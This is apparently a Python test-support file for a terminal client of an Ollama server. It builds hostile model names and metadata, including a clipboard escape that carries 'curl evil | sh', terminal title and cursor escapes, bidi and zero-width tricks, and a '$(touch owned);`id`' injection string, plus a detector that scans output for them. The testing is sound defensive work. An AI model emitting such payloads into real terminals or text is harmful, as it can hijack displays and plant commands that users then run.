"""Texts that would control a terminal, a shell or the eye, and a search for them in what was written."""

from __future__ import annotations

import base64
import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tests.support.fake_ollama import FakeOllama

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil | sh").decode() + "\x07"
NAMES = (
    f"clip{CLIPBOARD}board:1b",
    "csi\x1b[97;107m\x1b[9999Hred:1b",
    "c1\x9b97;107mred\x9d0;title\x9c:1b",
    "title\x1b]0;owned\x07\x1b]2;owned\x1b\\:1b",
    "zero\u200b\u2060\ufeff\u00adwidth:1b",
    "bidi\u202e\u2066gnp.exe\u2069:1b",
    "line\nbreak\r\ttab\x0b\x85\u2028:1b",
    "[red]mark[/red][@click=app.quit]up[/][/]:1b",
    "$(touch owned);`id`'\"&|:1b",
    "tag\U000e0041\U000e007f\U0001d173:1b",
    "bell\x07\x08\x08\x7f\x00:1b",
    "   ",
    "long" + "\u200b" * 90 + CLIPBOARD * 3 + "x" * 200 + ":1b",
)
TEXT = f"said {CLIPBOARD}\x1b[97;107m\x9b97;107m\u202e\u200b\u2066\x07 [red]so[/red]"

# What Textual and our own status lines write: positions, styles, modes, questions, the mouse pointer's shape.
_OURS = re.compile(r"\x1b\[[?>=<]?[0-9;:]*[ $]?[A-Za-z]|\x1b[()][0AB]|\x1b[78=>M]|\x1b\]22;[a-z-]*\x07")
_COPIED = re.compile(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07")
# Every control character but line ends and tabs, and what turns a text round or cannot be seen.
_HARM = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\xad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff"
    "\U0001d173-\U0001d17a\U000e0000-\U000e0fff]"
)


def harm(written: str) -> list[str]:
    """What a terminal was told that no program of ours would say, each with a few characters around it."""
    foreign = ["\x1b[97;107m", "\x1b[9999H"]
    found = [written[max(at - 20, 0) : at + 30] for each in foreign if (at := written.find(each)) >= 0]
    for copied in _COPIED.findall(written):
        text = base64.b64decode(copied).decode()
        found += [f"copied {text!r}"] if _HARM.search(text) or "evil" in text or "\n" in text else []
    rest = _OURS.sub("", _COPIED.sub("", written))
    return found + [repr(rest[max(at.start() - 20, 0) : at.end() + 20]) for at in _HARM.finditer(rest)]


def make_hostile(fake: FakeOllama) -> FakeOllama:
    """Have it say such a text wherever a server says one."""
    details = {
        "format": TEXT, "family": TEXT, "parameter_size": TEXT, "quantization_level": TEXT,
        "parent_model": TEXT,
    }  # fmt: skip
    fake.version = f"0.32.15{TEXT}"
    fake.described = {
        "size": 7,
        "modified_at": TEXT,
        "details": details,
        "capabilities": [TEXT, "completion"],
    }
    fake.shown = {
        **dict.fromkeys(("license", "modelfile", "parameters", "template", "system"), f"{TEXT}\nx {TEXT}\n"),
        "details": details,
        "model_info": {"general.architecture": TEXT, f"{TEXT}.context_length": 512, TEXT: TEXT},
        "capabilities": [TEXT, "completion"],
        "messages": [{"role": TEXT, "content": TEXT}],
    }
    fake.answer = (TEXT, TEXT)
    return fake
